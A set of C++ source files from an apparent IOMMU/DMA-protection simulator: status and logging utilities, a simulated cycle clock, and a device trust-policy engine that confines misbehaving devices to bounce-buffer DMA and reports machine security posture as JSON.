namespace spv {

enum class StatusCode {
  kOk = 0,
  kInvalidArgument,
  kNotFound,
  kAlreadyExists,
  kPermissionDenied,    // e.g. IOMMU fault: access rights violation
  kResourceExhausted,   // allocator out of memory / IOVA space
  kFailedPrecondition,  // API misuse (unmap of unmapped IOVA, double free)
  kOutOfRange,
  kUnavailable,
  kInternal,
  // Access was deliberately revoked by the OS (device quarantine / detach,
  // spv::recovery). Distinct from kPermissionDenied (an IOMMU fault the
  // device provoked) and from kUnavailable (a transient condition): kRevoked
  // is the single authoritative answer for any DMA-API or device-side
  // operation issued against a quarantined or detached device.
  kRevoked,
};

std::string_view StatusCodeName(StatusCode code);

class Status {
 public:
  Status() = default;
  Status(StatusCode code, std::string message) : code_(code), message_(std::move(message)) {}

  static Status Ok() { return Status{}; }

  bool ok() const { return code_ == StatusCode::kOk; }
  StatusCode code() const { return code_; }
  const std::string& message() const { return message_; }

  std::string ToString() const;

  friend bool operator==(const Status& a, const Status& b) { return a.code_ == b.code_; }

 private:
  StatusCode code_ = StatusCode::kOk;
  std::string message_;
};

inline Status OkStatus() { return Status::Ok(); }
inline Status InvalidArgument(std::string msg) {
  return Status{StatusCode::kInvalidArgument, std::move(msg)};
}
inline Status NotFound(std::string msg) { return Status{StatusCode::kNotFound, std::move(msg)}; }
inline Status AlreadyExists(std::string msg) {
  return Status{StatusCode::kAlreadyExists, std::move(msg)};
}
inline Status PermissionDenied(std::string msg) {
  return Status{StatusCode::kPermissionDenied, std::move(msg)};
}
inline Status ResourceExhausted(std::string msg) {
  return Status{StatusCode::kResourceExhausted, std::move(msg)};
}
inline Status FailedPrecondition(std::string msg) {
  return Status{StatusCode::kFailedPrecondition, std::move(msg)};
}
inline Status OutOfRange(std::string msg) { return Status{StatusCode::kOutOfRange, std::move(msg)}; }
inline Status Unavailable(std::string msg) {
  return Status{StatusCode::kUnavailable, std::move(msg)};
}
inline Status Internal(std::string msg) { return Status{StatusCode::kInternal, std::move(msg)}; }
inline Status Revoked(std::string msg) { return Status{StatusCode::kRevoked, std::move(msg)}; }

// Result<T>: either a value or a non-OK Status.
template <typename T>
class Result {
 public:
  Result(T value) : var_(std::move(value)) {}            // NOLINT(google-explicit-constructor)
  Result(Status status) : var_(std::move(status)) {      // NOLINT(google-explicit-constructor)
    assert(!std::get<Status>(var_).ok() && "Result constructed from OK status");
  }

  bool ok() const { return std::holds_alternative<T>(var_); }

  const T& value() const& {
    assert(ok());
    return std::get<T>(var_);
  }
  T& value() & {
    assert(ok());
    return std::get<T>(var_);
  }
  T&& value() && {
    assert(ok());
    return std::get<T>(std::move(var_));
  }

  const T& operator*() const& { return value(); }
  T& operator*() & { return value(); }
  T&& operator*() && { return std::get<T>(std::move(var_)); }
  const T* operator->() const { return &value(); }
  T* operator->() { return &value(); }

  Status status() const {
    if (ok()) {
      return OkStatus();
    }
    return std::get<Status>(var_);
  }

  T value_or(T fallback) const {
    if (ok()) {
      return std::get<T>(var_);
    }
    return fallback;
  }

 private:
  std::variant<T, Status> var_;
};

#define SPV_RETURN_IF_ERROR(expr)            \
  do {                                       \
    ::spv::Status spv_status_ = (expr);      \
    if (!spv_status_.ok()) return spv_status_; \
  } while (false)

#define SPV_ASSIGN_OR_RETURN(lhs, expr)       \
  auto spv_result_##__LINE__ = (expr);        \
  if (!spv_result_##__LINE__.ok()) return spv_result_##__LINE__.status(); \
  lhs = std::move(spv_result_##__LINE__).value()

}  // namespace spv

#endif  // SPV_BASE_STATUS_H_
