// Lightweight leveled logging.
//
// Kept intentionally small: benches and examples print their own structured
// output; the logger exists for diagnostics (IOMMU faults, sanitizer noise)
// and can be silenced globally in tests.

#ifndef SPV_BASE_LOG_H_
#define SPV_BASE_LOG_H_

#include <sstream>
#include <string>

namespace spv {

enum class LogLevel { kDebug = 0, kInfo, kWarning, kError };

// Global minimum level; messages below it are dropped.
LogLevel GetLogLevel();
void SetLogLevel(LogLevel level);

void LogMessage(LogLevel level, const std::string& message);

namespace internal {

class LogLine {
 public:
  explicit LogLine(LogLevel level) : level_(level) {}
  ~LogLine() { LogMessage(level_, stream_.str()); }

  LogLine(const LogLine&) = delete;
  LogLine& operator=(const LogLine&) = delete;

  template <typename T>
  LogLine& operator<<(const T& value) {
    stream_ << value;
    return *this;
  }

 private:
  LogLevel level_;
  std::ostringstream stream_;
};

}  // namespace internal
}  // namespace spv

#define SPV_LOG(level) ::spv::internal::LogLine(::spv::LogLevel::level)
#define SPV_DLOG() SPV_LOG(kDebug)

#endif  // SPV_BASE_LOG_H_
