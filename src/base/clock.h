// Simulated cycle clock.
//
// The paper's timing arguments (§5.2.1) are stated in cycles and wall time:
// IOTLB invalidation ≈ 2000 cycles, TLB invalidation ≈ 100 cycles, deferred
// flush window ≤ 10 ms. The simulator keeps a single logical cycle counter
// that components advance explicitly; no wall-clock time leaks into logic.

#ifndef SPV_BASE_CLOCK_H_
#define SPV_BASE_CLOCK_H_

#include <cstdint>

namespace spv {

class SimClock {
 public:
  // Models a 2 GHz part: 2 cycles per nanosecond.
  static constexpr uint64_t kCyclesPerUs = 2000;
  static constexpr uint64_t kCyclesPerMs = kCyclesPerUs * 1000;

  uint64_t now() const { return now_cycles_; }

  void Advance(uint64_t cycles) { now_cycles_ += cycles; }
  void AdvanceUs(uint64_t us) { now_cycles_ += us * kCyclesPerUs; }

  static constexpr uint64_t UsToCycles(uint64_t us) { return us * kCyclesPerUs; }
  static constexpr uint64_t MsToCycles(uint64_t ms) { return ms * kCyclesPerMs; }
  static constexpr double CyclesToUs(uint64_t cycles) {
    return static_cast<double>(cycles) / static_cast<double>(kCyclesPerUs);
  }

 private:
  uint64_t now_cycles_ = 0;
};

}  // namespace spv

#endif  // SPV_BASE_CLOCK_H_
