// Simulated cycle clock.
//
// The paper's timing arguments (§5.2.1) are stated in cycles and wall time:
// IOTLB invalidation ≈ 2000 cycles, TLB invalidation ≈ 100 cycles, deferred
// flush window ≤ 10 ms. The simulator keeps logical cycle counters that
// components advance explicitly; no wall-clock time leaks into logic.
//
// Two regimes:
//   * Shared (default, ExecMode::kSequential): one counter, exactly the
//     pre-multicore behavior. Deterministic.
//   * Per-CPU (ExecMode::kThreads): each sim CPU owns a cache-line-padded
//     counter advanced only by the host thread bound to that CPU, read via
//     the thread-local CurrentCpu(). Cross-CPU reads (max_now, now_cpu) are
//     relaxed loads — they are used for reporting and for deadline
//     comparisons where a slightly stale view only delays, never corrupts.
//     Sim time, not host time, is the throughput denominator: host lock
//     waits do not advance any sim clock, so scaling numbers are
//     machine-independent.

#ifndef SPV_BASE_CLOCK_H_
#define SPV_BASE_CLOCK_H_

#include <array>
#include <atomic>
#include <cstdint>

#include "base/exec.h"

namespace spv {

class SimClock {
 public:
  // Models a 2 GHz part: 2 cycles per nanosecond.
  static constexpr uint64_t kCyclesPerUs = 2000;
  static constexpr uint64_t kCyclesPerMs = kCyclesPerUs * 1000;
  static constexpr uint32_t kMaxCpus = 64;

  uint64_t now() const {
    if (!per_cpu_) {
      return now_cycles_;
    }
    return slot(CurrentCpu()).cycles.load(std::memory_order_relaxed);
  }

  void Advance(uint64_t cycles) {
    if (!per_cpu_) {
      now_cycles_ += cycles;
      return;
    }
    slot(CurrentCpu()).cycles.fetch_add(cycles, std::memory_order_relaxed);
  }
  void AdvanceUs(uint64_t us) { Advance(us * kCyclesPerUs); }

  // Switch to per-CPU counters, seeding each from the shared boot-time count.
  // Must be called before any worker thread runs; one-way.
  void EnablePerCpu(uint32_t num_cpus) {
    num_cpus_ = num_cpus < kMaxCpus ? num_cpus : kMaxCpus;
    for (uint32_t i = 0; i < kMaxCpus; ++i) {
      cpu_[i].cycles.store(now_cycles_, std::memory_order_relaxed);
    }
    per_cpu_ = true;
  }
  bool per_cpu() const { return per_cpu_; }

  uint64_t now_cpu(CpuId cpu) const {
    if (!per_cpu_) {
      return now_cycles_;
    }
    return slot(cpu).cycles.load(std::memory_order_relaxed);
  }

  // Latest counter across all CPUs: the frontier of simulated time.
  uint64_t max_now() const {
    if (!per_cpu_) {
      return now_cycles_;
    }
    uint64_t best = 0;
    for (uint32_t i = 0; i < (num_cpus_ ? num_cpus_ : 1); ++i) {
      const uint64_t v = cpu_[i].cycles.load(std::memory_order_relaxed);
      if (v > best) {
        best = v;
      }
    }
    return best;
  }

  static constexpr uint64_t UsToCycles(uint64_t us) { return us * kCyclesPerUs; }
  static constexpr uint64_t MsToCycles(uint64_t ms) { return ms * kCyclesPerMs; }
  static constexpr double CyclesToUs(uint64_t cycles) {
    return static_cast<double>(cycles) / static_cast<double>(kCyclesPerUs);
  }

 private:
  struct alignas(64) PaddedCycles {
    std::atomic<uint64_t> cycles{0};
  };

  PaddedCycles& slot(CpuId cpu) { return cpu_[cpu.value % kMaxCpus]; }
  const PaddedCycles& slot(CpuId cpu) const { return cpu_[cpu.value % kMaxCpus]; }

  uint64_t now_cycles_ = 0;
  bool per_cpu_ = false;
  uint32_t num_cpus_ = 0;
  std::array<PaddedCycles, kMaxCpus> cpu_{};
};

}  // namespace spv

#endif  // SPV_BASE_CLOCK_H_
