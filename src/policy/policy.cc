#include "policy/policy.h"

#include <utility>

namespace spv::policy {

std::string_view TrustStateName(TrustState state) {
  switch (state) {
    case TrustState::kUntrusted:
      return "untrusted";
    case TrustState::kProbation:
      return "probation";
    case TrustState::kTrusted:
      return "trusted";
  }
  return "?";
}

void PolicyEngine::TrustSink::OnEvent(const telemetry::Event& event) {
  if (!engine_.config_.enabled || event.device == 0) {
    return;  // unattributed signals cannot indict a device
  }
  switch (event.kind) {
    case telemetry::EventKind::kDeviceQuarantined:
    case telemetry::EventKind::kHealthBreach:
    case telemetry::EventKind::kDkasanReport:
    case telemetry::EventKind::kSpadeFinding:
    case telemetry::EventKind::kStaleIotlbHit:
      if (engine_.devices_.count(event.device) != 0) {
        engine_.pending_demotions_.emplace_back(event.device, event.kind);
      }
      break;
    default:
      break;
  }
}

PolicyEngine::PolicyEngine(iommu::Iommu& iommu, dma::BouncePool& pool, SimClock& clock,
                           telemetry::Hub& hub, Config config)
    : iommu_(iommu),
      pool_(pool),
      clock_(clock),
      hub_(hub),
      config_(std::move(config)),
      sink_(*this) {
  if (config_.enabled) {
    hub_.AddSink(&sink_);
  }
}

PolicyEngine::~PolicyEngine() {
  if (config_.enabled) {
    hub_.RemoveSink(&sink_);
  }
}

const Quirk* PolicyEngine::FindQuirk(const DeviceIdentity& identity) const {
  for (const Quirk& quirk : config_.quirks) {
    const bool model_ok =
        quirk.match_model.empty() || quirk.match_model == identity.model;
    const bool class_ok =
        quirk.match_class.empty() || quirk.match_class == identity.device_class;
    if (model_ok && class_ok) {
      return &quirk;
    }
  }
  return nullptr;
}

recovery::DmaPolicyLimits PolicyEngine::ProbationLimitsFor(const Device& entry) const {
  if (entry.quirk != nullptr && (entry.quirk->probation_limits.poll_deadline_cycles != 0 ||
                                 entry.quirk->probation_limits.ring_limit != 0)) {
    return entry.quirk->probation_limits;
  }
  return config_.probation_limits;
}

void PolicyEngine::ApplyTrust(DeviceId device, Device& entry, TrustState next,
                              std::string_view reason, bool is_promotion) {
  (void)reason;
  (void)is_promotion;
  entry.trust = next;
  // Fast-path privileges are earned: only kTrusted rides the IOVA rcache.
  (void)iommu_.SetDeviceFastPath(device, next == TrustState::kTrusted);
  if (entry.driver != nullptr) {
    // Probation tightens service; any other state restores driver defaults
    // (untrusted devices are already confined by the bounce route).
    entry.driver->ApplyDmaPolicy(next == TrustState::kProbation
                                     ? ProbationLimitsFor(entry)
                                     : recovery::DmaPolicyLimits{});
  }
}

void PolicyEngine::Publish(telemetry::EventKind kind, DeviceId device, TrustState next,
                           bool refused, std::string_view reason) {
  if (!hub_.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = kind;
  event.severity = (kind == telemetry::EventKind::kTrustDemoted || refused)
                       ? telemetry::Severity::kWarn
                       : telemetry::Severity::kInfo;
  event.device = device.value;
  event.aux = static_cast<uint64_t>(next);
  event.flag = refused;
  event.origin = this;
  event.site = std::string(reason);
  hub_.Publish(std::move(event));
  if (hub_.enabled()) {
    if (refused) {
      hub_.counter("policy.promotions_blocked").Add();
    } else {
      hub_.counter(kind == telemetry::EventKind::kTrustPromoted ? "policy.promotions"
                                                                : "policy.demotions")
          .Add();
    }
  }
}

Status PolicyEngine::RegisterDevice(DeviceId device, DeviceIdentity identity,
                                    recovery::SupervisedDriver* driver) {
  if (!config_.enabled) {
    return FailedPrecondition("trust policy disabled");
  }
  if (devices_.count(device.value) != 0) {
    return FailedPrecondition("device already under trust policy");
  }
  Device entry;
  entry.identity = std::move(identity);
  entry.quirk = FindQuirk(entry.identity);
  entry.driver = driver;
  uint64_t pages = config_.bounce_pages;
  if (entry.quirk != nullptr && entry.quirk->bounce_pages != 0) {
    pages = entry.quirk->bounce_pages;
  }
  // Every device gets a pool at registration, trusted or not: a demotion
  // must be able to divert traffic immediately, without allocating under
  // pressure from the very device being contained.
  SPV_RETURN_IF_ERROR(pool_.AttachDevice(device, pages));
  const TrustState initial =
      entry.quirk != nullptr ? entry.quirk->initial_trust : config_.default_trust;
  auto [it, inserted] = devices_.emplace(device.value, std::move(entry));
  ApplyTrust(device, it->second, initial, "attach", /*is_promotion=*/false);
  if (hub_.enabled()) {
    hub_.counter("policy.registered").Add();
  }
  return OkStatus();
}

Status PolicyEngine::UnregisterDevice(DeviceId device) {
  auto it = devices_.find(device.value);
  if (it == devices_.end()) {
    return NotFound("device not under trust policy");
  }
  pool_.ReleaseAll(device);
  SPV_RETURN_IF_ERROR(pool_.DetachDevice(device));
  devices_.erase(it);
  return OkStatus();
}

Status PolicyEngine::Promote(DeviceId device, std::string_view reason) {
  auto it = devices_.find(device.value);
  if (it == devices_.end()) {
    return NotFound("device not under trust policy");
  }
  Device& entry = it->second;
  if (entry.trust == TrustState::kTrusted) {
    return FailedPrecondition("device already fully trusted");
  }
  const TrustState next = entry.trust == TrustState::kUntrusted ? TrustState::kProbation
                                                                : TrustState::kTrusted;
  if (clock_.now() < entry.cooldown_until) {
    // Hysteresis: a recently demoted device cannot climb back yet, no matter
    // how clean it looks — this is what stops bounce/zero-copy oscillation.
    // The refused event carries the rung the device *asked for*.
    ++entry.promotions_blocked;
    ++total_promotions_blocked_;
    Publish(telemetry::EventKind::kTrustPromoted, device, next,
            /*refused=*/true, reason);
    return FailedPrecondition("promotion refused: hysteresis cooldown");
  }
  ApplyTrust(device, entry, next, reason, /*is_promotion=*/true);
  ++entry.promotions;
  Publish(telemetry::EventKind::kTrustPromoted, device, next, /*refused=*/false, reason);
  return OkStatus();
}

Status PolicyEngine::Demote(DeviceId device, std::string_view reason) {
  auto it = devices_.find(device.value);
  if (it == devices_.end()) {
    return NotFound("device not under trust policy");
  }
  Device& entry = it->second;
  // Arm/refresh the cooldown even when already untrusted: fresh evidence
  // extends the sentence.
  entry.cooldown_until = clock_.now() + config_.promotion_cooldown_cycles;
  if (entry.trust == TrustState::kUntrusted) {
    return OkStatus();
  }
  ApplyTrust(device, entry, TrustState::kUntrusted, reason, /*is_promotion=*/false);
  ++entry.demotions;
  ++total_demotions_;
  Publish(telemetry::EventKind::kTrustDemoted, device, TrustState::kUntrusted,
          /*refused=*/false, reason);
  return OkStatus();
}

uint32_t PolicyEngine::Poll() {
  if (!config_.enabled || pending_demotions_.empty()) {
    return 0;
  }
  // Latched triggers, applied outside the bus callback. The vector is taken
  // first: Demote publishes events, and the sink must not observe its own
  // engine mid-transition.
  std::vector<std::pair<uint32_t, telemetry::EventKind>> triggers;
  triggers.swap(pending_demotions_);
  uint32_t demoted = 0;
  for (const auto& [device, kind] : triggers) {
    auto it = devices_.find(device);
    if (it == devices_.end()) {
      continue;  // unplugged since the trigger latched
    }
    const bool was_direct = it->second.trust != TrustState::kUntrusted;
    if (Demote(DeviceId{device}, telemetry::EventKindName(kind)).ok() && was_direct) {
      ++demoted;
    }
  }
  return demoted;
}

bool PolicyEngine::ShouldBounce(DeviceId device) const {
  if (!config_.enabled) {
    return false;
  }
  auto it = devices_.find(device.value);
  return it != devices_.end() && it->second.trust == TrustState::kUntrusted;
}

dma::ServiceMode PolicyEngine::ServiceModeFor(DeviceId device) const {
  if (!config_.enabled) {
    return dma::ServiceMode::kZeroCopy;
  }
  auto it = devices_.find(device.value);
  if (it == devices_.end() || it->second.trust != TrustState::kUntrusted) {
    // Probation devices keep direct mappings (clamped service limits do the
    // containment); only the untrusted rung is degraded.
    return dma::ServiceMode::kZeroCopy;
  }
  const Device& entry = it->second;
  if (entry.quirk != nullptr && entry.quirk->untrusted_service.has_value()) {
    return *entry.quirk->untrusted_service;
  }
  return config_.untrusted_service;
}

TrustState PolicyEngine::state(DeviceId device) const {
  auto it = devices_.find(device.value);
  // Unregistered devices are outside the policy's remit; they behave as
  // trusted (ShouldBounce=false) so pre-policy setups are unchanged.
  return it == devices_.end() ? TrustState::kTrusted : it->second.trust;
}

PolicyEngine::DeviceStatus PolicyEngine::device_status(DeviceId device) const {
  auto it = devices_.find(device.value);
  if (it == devices_.end()) {
    return DeviceStatus{TrustState::kTrusted, 0, 0, 0, 0};
  }
  const Device& entry = it->second;
  DeviceStatus out;
  out.trust = entry.trust;
  out.demotions = entry.demotions;
  out.promotions = entry.promotions;
  out.promotions_blocked = entry.promotions_blocked;
  const uint64_t now = clock_.now();
  out.cooldown_remaining = entry.cooldown_until > now ? entry.cooldown_until - now : 0;
  return out;
}

std::string PolicyEngine::PostureJson(const std::string& indent) const {
  // HSI-style posture: one deterministic JSON object answering "how exposed
  // is this machine". Key order is fixed; devices_ is an ordered map.
  std::string out;
  const std::string i1 = indent + "  ";
  const std::string i2 = indent + "    ";
  const std::string i3 = indent + "      ";
  out += indent + "{\n";
  out += i1 + "\"invalidation\": \"" + iommu::InvalidationModeName(iommu_.mode()) + "\",\n";
  out += i1 + std::string("\"strict_invalidation\": ") +
         (iommu_.mode() == iommu::InvalidationMode::kStrict ? "true" : "false") + ",\n";
  const iommu::FastPathConfig& fp = iommu_.fast_path();
  out += i1 + std::string("\"iova_rcache\": ") + (fp.rcache_enabled ? "true" : "false") +
         ",\n";
  out += i1 + std::string("\"mapping_hash_index\": ") +
         (fp.hash_index_enabled ? "true" : "false") + ",\n";
  out += i1 + std::string("\"policy_enabled\": ") + (config_.enabled ? "true" : "false") +
         ",\n";
  out += i1 + "\"default_trust\": \"" + std::string(TrustStateName(config_.default_trust)) +
         "\",\n";
  out += i1 + std::string("\"recovery_supervision\": ") +
         (recovery_ != nullptr && recovery_->enabled() ? "true" : "false") + ",\n";
  out += i1 + "\"promotion_cooldown_cycles\": " +
         std::to_string(config_.promotion_cooldown_cycles) + ",\n";
  out += i1 + "\"total_demotions\": " + std::to_string(total_demotions_) + ",\n";
  out += i1 + "\"total_promotions_blocked\": " + std::to_string(total_promotions_blocked_) +
         ",\n";
  out += i1 + "\"devices\": [";
  bool first = true;
  for (const auto& [id, entry] : devices_) {
    const DeviceId device{id};
    out += first ? "\n" : ",\n";
    first = false;
    out += i2 + "{\n";
    out += i3 + "\"id\": " + std::to_string(id) + ",\n";
    out += i3 + "\"model\": \"" + telemetry::JsonEscape(entry.identity.model) + "\",\n";
    out += i3 + "\"class\": \"" + telemetry::JsonEscape(entry.identity.device_class) +
           "\",\n";
    out += i3 + "\"trust\": \"" + std::string(TrustStateName(entry.trust)) + "\",\n";
    out += i3 + std::string("\"fast_path\": ") +
           (iommu_.device_fast_path(device) ? "true" : "false") + ",\n";
    out += i3 + "\"bounce_pool_pages\": " + std::to_string(pool_.pool_pages(device)) +
           ",\n";
    out += i3 + "\"active_bounces\": " + std::to_string(pool_.active_bounces(device)) +
           ",\n";
    // Degraded-service stats: which protocol the device would run under
    // right now, and how much sync-ring traffic it has actually served.
    out += i3 + "\"service_mode\": \"" +
           std::string(dma::ServiceModeName(ServiceModeFor(device))) + "\",\n";
    out += i3 + "\"persistent_bounces\": " +
           std::to_string(pool_.persistent_bounces(device)) + ",\n";
    out += i3 + "\"bounce_syncs_for_cpu\": " + std::to_string(pool_.syncs_for_cpu(device)) +
           ",\n";
    out += i3 + "\"bounce_syncs_for_device\": " +
           std::to_string(pool_.syncs_for_device(device)) + ",\n";
    out += i3 + "\"demotions\": " + std::to_string(entry.demotions) + ",\n";
    out += i3 + "\"promotions\": " + std::to_string(entry.promotions) + ",\n";
    out += i3 + "\"promotions_blocked\": " + std::to_string(entry.promotions_blocked) +
           ",\n";
    const uint64_t now = clock_.now();
    out += i3 + "\"cooldown_remaining_cycles\": " +
           std::to_string(entry.cooldown_until > now ? entry.cooldown_until - now : 0) +
           ",\n";
    if (recovery_ != nullptr) {
      const recovery::RecoveryManager::DeviceStatus rs = recovery_->device_status(device);
      out += i3 + "\"recovery_state\": \"" +
             std::string(recovery::DeviceStateName(rs.state)) + "\",\n";
      out += i3 + "\"quarantines\": " + std::to_string(rs.quarantines) + "\n";
    } else {
      out += i3 + "\"recovery_state\": \"unsupervised\",\n";
      out += i3 + "\"quarantines\": 0\n";
    }
    out += i2 + "}";
  }
  out += first ? "]\n" : "\n" + i1 + "]\n";
  out += indent + "}";
  return out;
}

}  // namespace spv::policy
