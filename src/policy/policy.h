// spv::policy — device trust & DMA-protection policy engine.
//
// The paper's chapters establish that *any* DMA-capable peripheral can turn
// hostile (sub-page co-location, deferred-invalidation windows, Thunderclap-
// style NIC emulation). This subsystem models the OS response that modern
// platforms actually ship — Thunderbolt/fwupd device authorization — as a
// trust ladder every device must climb before it earns the zero-copy path:
//
//   kUntrusted  — the attach default. The device gets NO direct mappings:
//                 DmaApi diverts every transfer through a dedicated
//                 bounce-buffer pool (dma::BouncePool), so sub-page
//                 co-location (paper types (a)/(d)) is structurally
//                 impossible and the I/O path queues no invalidations.
//                 The IOVA rcache fast path is gated off.
//   kProbation  — direct mappings return, but the driver runs with
//                 tightened service limits (ring occupancy, poll budget)
//                 from a quirks table keyed on device identity.
//   kTrusted    — full service: PR-2 fast path (rcache + hash index), no
//                 bounce, driver defaults restored.
//
// Demotions are driven by the same signals the recovery subsystem consumes —
// quarantines, health breaches, detector findings (D-KASAN, SPADE), stale-
// IOTLB hits — latched by a telemetry sink and applied from Poll(), never
// from inside a callback. A demotion arms a promotion-cooldown (hysteresis):
// re-promotion inside the cooldown is refused, so a flapping device cannot
// oscillate between bounce and zero-copy.
//
// The engine also exports an HSI-style machine posture report (strict vs
// deferred invalidation, fast-path state, per-device trust/bounce/quarantine
// state) as deterministic JSON — the defender's one-glance answer to "how
// exposed is this machine right now".

#ifndef SPV_POLICY_POLICY_H_
#define SPV_POLICY_POLICY_H_

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "base/clock.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/bounce_pool.h"
#include "iommu/iommu.h"
#include "recovery/recovery.h"
#include "recovery/supervised.h"
#include "telemetry/telemetry.h"

namespace spv::policy {

enum class TrustState : uint8_t {
  kUntrusted,  // bounce-only DMA, fast path gated off
  kProbation,  // direct mappings under tightened service limits
  kTrusted,    // full zero-copy service
};

std::string_view TrustStateName(TrustState state);

// What the quirks table matches on: who the device claims to be. In real
// hardware this is the (vendor, device) id pair plus the class code; here a
// free-form model string and a class string ("nic", "nvme", ...).
struct DeviceIdentity {
  std::string model;
  std::string device_class;
};

// One quirks-table row. Empty match fields are wildcards; the first row
// matching both fields wins.
struct Quirk {
  std::string match_model;   // exact match, "" = any
  std::string match_class;   // exact match, "" = any
  // Where a matching device starts on the ladder (an allowlist entry for
  // known-good inbox devices sets kTrusted).
  TrustState initial_trust = TrustState::kUntrusted;
  // Bounce pool size while untrusted (0 = engine default).
  uint64_t bounce_pages = 0;
  // How this device is serviced while untrusted (unset = engine default).
  // kBounceSync keeps its queue protocols alive on persistent sync'd slots;
  // kBounceTransient is the PR 8 per-transfer bounce (rings starve).
  std::optional<dma::ServiceMode> untrusted_service;
  // Service limits applied on kProbation (zero fields = driver default).
  recovery::DmaPolicyLimits probation_limits;
  // Per-device recovery tuning (scorer weights, backoff, retry budget) the
  // machine passes to RecoveryManager::RegisterDevice for this identity.
  std::optional<recovery::RecoveryConfig> recovery_tune;
};

class PolicyEngine : public dma::DmaRouter {
 public:
  struct Config {
    // Disabled by default: routing costs one null check per map and the
    // paper's attacks reproduce unhindered.
    bool enabled = false;
    // Where an unmatched device starts (kUntrusted = the secure default;
    // tests that predate the engine run with it disabled instead).
    TrustState default_trust = TrustState::kUntrusted;
    uint64_t bounce_pages = dma::BouncePool::kDefaultPoolPages;
    // Degraded service mode for untrusted devices. kBounceSync by default:
    // queue-protocol drivers keep serving through persistent sync'd bounce
    // slots instead of starving behind per-transfer bounces. MapSingle's
    // transient diversion is unchanged either way — this only steers
    // drivers that ask DmaApi::service_mode().
    dma::ServiceMode untrusted_service = dma::ServiceMode::kBounceSync;
    // Limits applied on kProbation when no quirk overrides them.
    recovery::DmaPolicyLimits probation_limits{SimClock::UsToCycles(500), 16};
    // Hysteresis: after a demotion, Promote() is refused this long.
    uint64_t promotion_cooldown_cycles = SimClock::MsToCycles(100);
    std::vector<Quirk> quirks;
  };

  struct DeviceStatus {
    TrustState trust = TrustState::kUntrusted;
    uint64_t demotions = 0;
    uint64_t promotions = 0;
    uint64_t promotions_blocked = 0;  // refused by the cooldown
    uint64_t cooldown_remaining = 0;  // cycles until Promote() may succeed
  };

  PolicyEngine(iommu::Iommu& iommu, dma::BouncePool& pool, SimClock& clock,
               telemetry::Hub& hub, Config config);
  ~PolicyEngine() override;

  PolicyEngine(const PolicyEngine&) = delete;
  PolicyEngine& operator=(const PolicyEngine&) = delete;

  // Places `device` under trust policy. The device must already be attached
  // to the IOMMU (the bounce pool installs its static block through it).
  // `driver` (may be null for driverless devices) receives ApplyDmaPolicy on
  // probation transitions. Initial trust comes from the quirks table, else
  // `default_trust`.
  Status RegisterDevice(DeviceId device, DeviceIdentity identity,
                        recovery::SupervisedDriver* driver = nullptr);

  // Hot-unplug: drops in-flight bounces and frees the device's pool.
  Status UnregisterDevice(DeviceId device);

  // One step up the ladder (untrusted -> probation -> trusted), e.g. an
  // operator authorizing the device. Refused with FailedPrecondition while
  // the post-demotion cooldown runs (the refusal is counted and published
  // with flag=1 for the trace).
  Status Promote(DeviceId device, std::string_view reason = "operator");

  // Straight back to kUntrusted (bounce-only) and arms the cooldown.
  Status Demote(DeviceId device, std::string_view reason = "policy");

  // Applies demotion triggers latched from the telemetry bus (quarantines,
  // health breaches, detector findings, stale-IOTLB hits). Call from the
  // workload loop; returns the number of demotions performed.
  uint32_t Poll();

  // dma::DmaRouter: untrusted registered devices divert through the pool.
  bool ShouldBounce(DeviceId device) const override;

  // dma::DmaRouter: untrusted devices get the configured degraded mode
  // (quirk override first); everything else runs zero-copy.
  dma::ServiceMode ServiceModeFor(DeviceId device) const override;

  TrustState state(DeviceId device) const;
  DeviceStatus device_status(DeviceId device) const;
  bool enabled() const { return config_.enabled; }
  const Config& config() const { return config_; }
  uint64_t total_demotions() const { return total_demotions_; }
  uint64_t total_promotions_blocked() const { return total_promotions_blocked_; }

  // First quirks-table row matching `identity`, or nullptr. Exposed so the
  // machine can hand the row's recovery_tune to RecoveryManager.
  const Quirk* FindQuirk(const DeviceIdentity& identity) const;

  // Optional: lets the posture report include quarantine history and
  // supervision state. nullptr detaches.
  void set_recovery(const recovery::RecoveryManager* recovery) { recovery_ = recovery; }

  // HSI-style machine security posture (deterministic: same machine state ->
  // byte-identical JSON). `indent` prefixes every line (for embedding).
  std::string PostureJson(const std::string& indent = "") const;

 private:
  struct Device {
    DeviceIdentity identity;
    recovery::SupervisedDriver* driver = nullptr;
    const Quirk* quirk = nullptr;  // points into config_.quirks
    TrustState trust = TrustState::kUntrusted;
    uint64_t cooldown_until = 0;
    uint64_t demotions = 0;
    uint64_t promotions = 0;
    uint64_t promotions_blocked = 0;
  };

  // Latches bus events; applied by Poll() (no re-entrant transitions).
  class TrustSink : public telemetry::EventSink {
   public:
    explicit TrustSink(PolicyEngine& engine) : engine_(engine) {}
    void OnEvent(const telemetry::Event& event) override;

   private:
    PolicyEngine& engine_;
  };

  void ApplyTrust(DeviceId device, Device& entry, TrustState next,
                  std::string_view reason, bool is_promotion);
  recovery::DmaPolicyLimits ProbationLimitsFor(const Device& entry) const;
  void Publish(telemetry::EventKind kind, DeviceId device, TrustState next, bool refused,
               std::string_view reason);

  iommu::Iommu& iommu_;
  dma::BouncePool& pool_;
  SimClock& clock_;
  telemetry::Hub& hub_;
  Config config_;
  TrustSink sink_;
  const recovery::RecoveryManager* recovery_ = nullptr;
  std::map<uint32_t, Device> devices_;  // ordered: deterministic Poll/report
  // (device, trigger kind) pairs recorded by the sink since the last Poll.
  std::vector<std::pair<uint32_t, telemetry::EventKind>> pending_demotions_;
  uint64_t total_demotions_ = 0;
  uint64_t total_promotions_blocked_ = 0;
};

}  // namespace spv::policy

#endif  // SPV_POLICY_POLICY_H_
