#include "iommu/io_page_table.h"

namespace spv::iommu {

Status IoPageTable::Map(Iova iova, Pfn pfn, AccessRights rights) {
  if (rights == AccessRights::kNone) {
    return InvalidArgument("mapping with no access rights");
  }
  if (!root_) {
    root_ = std::make_unique<Node>();
  }
  Node* node = root_.get();
  for (int level = kLevels - 1; level >= 1; --level) {
    const uint64_t index = IndexAt(iova, level);
    if (!node->children[index]) {
      node->children[index] = std::make_unique<Node>();
    }
    node = node->children[index].get();
  }
  const uint64_t index = IndexAt(iova, 0);
  if (node->entries[index].has_value()) {
    return AlreadyExists("IOVA page already mapped");
  }
  node->entries[index] = PteEntry{pfn, rights};
  ++mapped_pages_;
  return OkStatus();
}

Result<PteEntry> IoPageTable::Unmap(Iova iova) {
  if (!root_) {
    return NotFound("IOVA page not mapped");
  }
  Node* node = root_.get();
